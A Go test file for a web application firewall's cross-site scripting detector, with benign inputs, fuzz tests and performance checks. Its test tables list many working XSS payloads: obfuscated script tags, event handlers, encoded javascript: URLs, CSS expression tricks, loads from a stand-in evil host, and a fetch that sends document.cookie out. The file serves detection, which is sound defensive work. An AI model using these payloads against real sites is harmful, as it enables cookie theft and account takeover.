package waf

import (
	"strings"
	"testing"
)

// TestDetectXSS shows what DetectXSS flags: markup that runs or loads
// script in any place the value can land in a page, and script where a URL
// or a JavaScript string is expected; and what it leaves alone: prose,
// code and harmless markup, with all the '<', '>', quotes and '=' they
// hold. at is the text found at the reported offset.
func TestDetectXSS(t *testing.T) {
	tests := []struct {
		in     string
		reason string // "" when the value is benign
		at     string
	}{
		// Benign: '<' that starts no tag, tags that run nothing, prose.
		{"", "", ""},
		{"john", "", ""},
		{"a < b and c > d", "", ""},
		{"I <3 you", "", ""},
		{"<3", "", ""},
		{"x<y", "", ""},
		{"2 < 3 > 1", "", ""},
		{"John <john@x.com>", "", ""},
		{"email=<john@x.com>; name=\"John\"", "", ""},
		{"if (a<b && c>d) { x = 1; }", "", ""},
		{"for (i=0;i<n;i++) sum+=a[i];", "", ""},
		{"x = y > 2 ? a : b;", "", ""},
		{"List<Map<String, Object>>", "", ""},
		{"template <typename T> void f(T x);", "", ""},
		{"SELECT * FROM t WHERE a<b", "", ""},
		{"javascript: the good parts", "", ""},
		{"Note: javascript: is a scheme", "", ""},
		{"java script is fun; ok", "", ""},
		{"on=1", "", ""},
		{"one=1&two=2", "", ""},
		{"https://example.com/search?q=a&b=c&on=1", "", ""},
		{"price>=100&category=shoes", "", ""},
		{"mailto:john@x.com", "", ""},
		{"data:image/png;base64,iVBORw0KGgo=", "", ""},
		{"Tom & Jerry", "", ""},
		{"O'Reilly", "", ""},
		{"He said \"hello\" and left", "", ""},
		{"I'm \"fine\" > ok", "", ""},
		{"\"online=yes\"", "", ""},
		{"Use expression(1) in IE", "", ""},
		{"<b>bold</b> and <i>it</i>", "", ""},
		{"<a href=\"https://example.com\">link</a>", "", ""},
		{"<img src=\"cat.png\" alt=\"cat\">", "", ""},
		{"<p class=\"x\">Hello</p><!-- note -->", "", ""},
		{"<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "", ""},
		{"<![CDATA[ data ]]>", "", ""},
		{"<meta charset=\"utf-8\"><meta http-equiv=\"Content-Type\" content=\"text/html\">", "", ""},
		{"a<b onclick", "", ""}, // a handler without a value runs nothing
		{"</script>", "", ""},   // ends a script element, runs nothing
		{"<x onxx=1>", "", ""},  // no event is named with two letters
		{"set onload to 1", "", ""},

		// Tags that run or load script.
		{"<script>alert(1)</script>", "script tag", "<script>"},
		{"<ScRiPt SRC=//evil.example/x.js></ScRiPt>", "script tag", "<ScRiPt"},
		{"'><script>alert(1)</script>", "script tag", "<script>"},
		{"<scr<script>ipt>alert(1)</script>", "script tag", "<script>"},
		{"<scr\x00ipt>alert(1)</script>", "script tag", "<scr"},
		{"<x:script>alert(1)</x:script>", "script tag", "<x:script"},
		{"<![CDATA[<script>alert(1)</script>]]>", "script tag", "<script>"},
		{"<iframe/src=//evil.example>", "iframe tag", "<iframe"},
		{"<object data=x.swf>", "object tag", "<object"},
		{"<embed src=x.swf>", "embed tag", "<embed"},
		{"<?import namespace=t implementation=#default#time2>", "import tag", "<?import"},
		{"<base href=\"//evil.example/\">", "base href", "href"},
		{"<link rel=import href=//evil.example>", "link href", "href"},
		{"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "meta http-equiv", "http-equiv"},
		{"<meta content=\"0;url=//evil.example\" http-equiv=\"Refresh\">", "meta http-equiv", "http-equiv"},
		{"<META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\">", "meta charset utf-7", "CONTENT="},
		{"<layer src=\"//evil.example/x.html\"></layer>", "layer or xml src", "src"},
		{"<?xml-stylesheet type=\"text/xsl\" href=\"//evil.example/x.xsl\"?>", "xml-stylesheet href", "href"},
		{"x();</script><b>", "script end tag after code", "</script>"},
		{"20) </script><img src=x onerror=alert(1)>", "event handler onerror", "onerror"}, // the stronger finding

		// Event handlers, on tags of the value or of the page.
		{"<img src=x onerror=alert(1)>", "event handler onerror", "onerror"},
		{"<IMG SRC=x OnErRoR=alert(1)>", "event handler onerror", "OnErRoR"},
		{"<svg/onload=alert(1)>", "event handler onload", "onload"},
		{"<img src=x:x onerror=alert(1)//", "event handler onerror", "onerror"},
		{"<details open ontoggle=alert(1)>", "event handler ontoggle", "ontoggle"},
		{"<xss onpointerenter=alert(1)>", "event handler", "onpointerenter"},
		{"<img src=x onerror\x00=alert(1)>", "event handler", "onerror\x00"},
		{"<img src=`x`onerror=alert(1)>", "event handler onerror", "onerror"}, // backtick quotes (IE)
		{"<!--<img src=x onerror=alert(1)>-->", "event handler onerror", "onerror"},
		{"<p title=\"</p><img src=x onerror=alert(1)>\">", "event handler onerror", "onerror"},
		{"<x </onmouseover=alert(1)>", "event handler onmouseover", "onmouseover"},
		{"\" onmouseover=\"alert(1)", "event handler onmouseover", "onmouseover"},
		{"' onfocus='alert(1)' autofocus='", "event handler onfocus", "onfocus"},
		{"x\" autofocus onfocus=alert(1) x=\"", "event handler onfocus", "onfocus"},
		{"x onmouseover=alert(1)", "event handler onmouseover", "onmouseover"}, // unquoted value
		{"x`onclick=alert(1)", "event handler onclick", "onclick"},             // backtick-quoted value (IE)
		{"<br size=\"&{alert(1)}\">", "javascript entity", "&{"},
		{"<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">", "html+time behaviour", "urn:"},

		// Script URLs, as browsers decode attribute values.
		{"<a href=\"javascript:alert(1)\">x</a>", "script url in href", "javascript:"},
		{"<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "script url in href", "jav&#x09;"},
		{"<a href='java\nscript:alert(1)'>x</a>", "script url in href", "java\n"},
		{"<a href=\" \x01javascript:alert(1)\">", "script url in href", "javascript:"},
		{"<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>", "script url in href", "&#106;"},
		{"<a href=javascript&colon;alert(1)>x", "script url in href", "javascript&colon;"},
		{"<a href=\"&#0000106avascript:alert(1)\">", "script url in href", "&#0000106"},
		{"<a href=\"vbscript:msgbox(1)\">", "script url in href", "vbscript:"},
		{"<form><button formaction=javascript:alert(1)>x", "script url in formaction", "javascript:"},
		{"<math href=\"javascript:alert(1)\">x</math>", "script url in href", "javascript:"},
		{"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">", "script url in href", "data:"},
		{"<embed code=\"data:image/svg+xml,<svg onload=alert(1)>\">", "embed tag", "<embed"},
		{"\" href=\"javascript:alert(1)", "script url in href", "javascript:"},
		{"<svg><animate attributeName=href values=javascript:alert(1) />", "animated attribute", "attributeName"},
		{"<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "iframe tag", "<iframe"},
		{"<x srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "srcdoc attribute", "srcdoc"},

		// CSS that runs script.
		{"<div style=\"width:expression(alert(1))\">", "script in style attribute", "expression("},
		{"<div style=\"x:exp/**/ression(alert(1))\">", "script in style attribute", "exp/**/"},
		{"<div style=\"x:expression&lpar;alert(1))\">", "script in style attribute", "expression&lpar;"},
		{"<div style=\"x:\\65 xpression(alert(1))\">", "script in style attribute", "\\65 "},
		{"<div style=\"background:url(JavaScript:alert(1))\">", "script in style attribute", "JavaScript:"},
		{"\" style=\"behavior:url(x.htc)", "script in style attribute", "behavior:"},
		{"<style>body{background:url(\"javascript:alert(1)\")}</style>", "script in style element", "javascript:"},
		{"<style>@import 'http://evil.example/x.css';</style>", "script in style element", "@import"},

		// Script where a URL or a JavaScript string is expected.
		{"javascript:alert(1)", "script url", "javascript:"},
		{"&#106;avascript:alert(1)", "script url", "&#106;"},
		{"data:text/html,<b>hi</b>", "script url", "data:"},
		{"';alert(1)//", "script call", "alert("},
		{"\";alert(document.cookie);//", "script call", "alert("},
		{"';x=document.cookie;//", "script call", "document.cookie"},
	}
	for _, tt := range tests {
		m, ok := DetectXSS(tt.in)
		switch {
		case ok != (tt.reason != ""):
			t.Errorf("DetectXSS(%q) = %v, %v; want %v", tt.in, m, ok, tt.reason != "")
		case ok && (m.By != ByStructure || m.Fingerprint != tt.reason || m.Offset < 0 || !strings.HasPrefix(tt.in[m.Offset:], tt.at)):
			t.Errorf("DetectXSS(%q) = %+v; want %q at %q", tt.in, m, tt.reason, tt.at)
		}
		if IsXSS(tt.in) != ok {
			t.Errorf("IsXSS(%q) disagrees with DetectXSS", tt.in)
		}
	}
}

func TestScriptHint(t *testing.T) {
	tests := []struct {
		in   string
		hint string // "" when none
		at   string
	}{
		{"javascript:alert(1)", "script url", "javascript:"},
		{"\"java\tscript:alert(1)\">", "script url", "java\tscript:"},
		{"x=VBScript:msgbox(1)", "script url", "VBScript:"},
		{"data:text/html;base64,PHNjcmlwdD4=", "script url", "data:"},
		{"&#x6A;avascript&#58;alert(1)", "script url", "&#x6A;"},
		{"\";alert('xss');//", "script call", "alert("},
		{"prompt`1`>", "script call", "prompt`"},
		{"&{document.cookie=true;};", "script call", "document.cookie"},
		{"'+document.cookie+'", "", ""}, // read, sent nowhere
		{"'+fetch('//x/'+document.cookie)+'", "script call", "document.cookie"},
		{"Note: javascript: is a scheme", "", ""},
		{"`javascript:` URLs are filtered", "", ""},
		{"injection of \"javascript:...\" URLs", "", ""},
		{"javascript://%0aalert(1)", "script url", "javascript:"},
		{"myjavascript:x", "", ""},
		{"data:image/png;base64,iVBOR", "", ""},
		{"alert(1)", "", ""},                          // no break-out byte
		{"Set an alert (daily);", "", ""},             // not a call
		{"red alert(s); ok", "script call", "alert("}, // grey: reads as a call
		{"window.alert(1);", "", ""},                  // a method, not the global PoC call
	}
	for _, tt := range tests {
		name, off, ok := scriptHint(tt.in)
		if ok != (tt.hint != "") || name != tt.hint || ok && !strings.HasPrefix(strings.ToLower(tt.in[off:]), strings.ToLower(tt.at)) {
			t.Errorf("scriptHint(%q) = %q, %d, %v; want %q at %q", tt.in, name, off, ok, tt.hint, tt.at)
		}
	}
}

func TestHTMLInert(t *testing.T) {
	tests := []struct {
		in   string
		want bool
	}{
		{"john smith", true},
		{"1+1 (two)", true},
		{"a<b", false},
		{"x onerror=1", false},
		{"javascript:x", false},
		{"&lt;", false},
		{"&#60", false},
		{"Tom & Jerry", true},
		{"a && b", true},
		{"a&&b", false}, // &b may start a reference
		{"it's", true},
		{"O'Reilly (UK)", false},
		{"'-alert(1)-'", false},
		{"x'+document.cookie+'", true}, // reads, sends nowhere: see TestScriptHint
		{"it's 5.5 km", true},
	}
	for _, tt := range tests {
		if got := htmlInert(tt.in); got != tt.want {
			t.Errorf("htmlInert(%q) = %v; want %v", tt.in, got, tt.want)
		}
	}
}

// FuzzDetectXSS checks that detection never panics, that offsets lie in
// the value, and that the pre-filter only skips values the full check
// would not flag.
func FuzzDetectXSS(f *testing.F) {
	for _, s := range []string{"<script>alert(1)</script>", "john", "\" onload=\"x", "javascript:x", "<a href=x>",
		"Tom & Jerry", "&#106;avascript&#58;alert(1)", "O'Reilly", "'-alert(1)-'", "<style>x{}</style>",
		"<div style='x:\\65 xpression(1)'>", "<a href=`x`onclick=y>", "<!--#exec cmd=x-->", "&#x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if m, ok := DetectXSS(s); ok && (m.Offset < 0 || m.Offset >= len(s)) {
			t.Fatalf("DetectXSS(%q) = %+v: offset out of the value", s, m)
		}
		if len(s) >= 2 && htmlInert(s) {
			if m, ok := detectXSS(s); ok {
				t.Fatalf("pre-filter skipped %q, which the full check flags (%+v)", s, m)
			}
		}
	})
}

// TestHTMLInertExhaustive checks the pre-filter against the full check on
// every string of up to four pieces drawn from attribute names, schemes,
// script words and the bytes the pre-filter lets through.
func TestHTMLInertExhaustive(t *testing.T) {
	pieces := []string{"x", " ", "onerror", "javascript", "/", "(", ")", "alert", "1", "\t", "\x00", "'", "&", "&#", "#",
		"style", "src", "data", "-", "!", "?", "%", "script", "\\", "\n", ".", "document.cookie", "expression"}
	var walk func(prefix string, depth int)
	walk = func(prefix string, depth int) {
		if len(prefix) >= 2 && htmlInert(prefix) {
			if m, ok := detectXSS(prefix); ok {
				t.Errorf("pre-filter skips %q, which the full check flags (%+v)", prefix, m)
			}
		}
		if depth == 4 {
			return
		}
		for _, p := range pieces {
			walk(prefix+p, depth+1)
		}
	}
	walk("", 0)
}

// xssLongValues are adversarial values for the tokenizer: each repeats a
// construct that a naive scanner would read again from every occurrence.
var xssLongValues = []struct{ name, unit string }{
	{"open tags", "<a "},
	{"handlers", "\"onx="},
	{"style elements", "<style>"},
	{"end tags", "</script>"},
	{"quoted values", "<a title=\"<a title='"},
	{"comments", "<!--/*"},
	{"references", "&#1;"},
	{"url blanks", "<a href=j\x01"},
	{"css", "<a style=\"/**/\\65 "},
	{"words", "j\x01&#106;"},
}

// TestDetectXSSLong runs DetectXSS on 1 MB values of each construct of
// xssLongValues: it finishes in milliseconds when the time is linear, and
// would take hours on a quadratic rescan.
func TestDetectXSSLong(t *testing.T) {
	for _, v := range xssLongValues {
		s := strings.Repeat(v.unit, 1<<20/len(v.unit))
		DetectXSS(s)
	}
}

// TestDetectXSSAllocs checks that no path of DetectXSS allocates.
func TestDetectXSSAllocs(t *testing.T) {
	values := []string{"john", "O'Reilly & Sons (UK)", "a < b", "<b>x</b>", "x\" onmouseover=\"alert(1)",
		"<img src=x onerror=alert(1)>", "<a href=\"jav&#x09;ascript:alert(1)\">", "<style>@import 'x'</style>",
		"<div style=\"x:\\65 xpression(1)\">", "';alert(1)//", "x();</script>", "<meta charset=utf-7>"}
	for _, v := range xssLongValues {
		values = append(values, strings.Repeat(v.unit, 100))
	}
	for _, s := range values {
		if n := testing.AllocsPerRun(10, func() { DetectXSS(s) }); n != 0 {
			t.Errorf("DetectXSS(%q) allocates %.0f times", s, n)
		}
	}
}
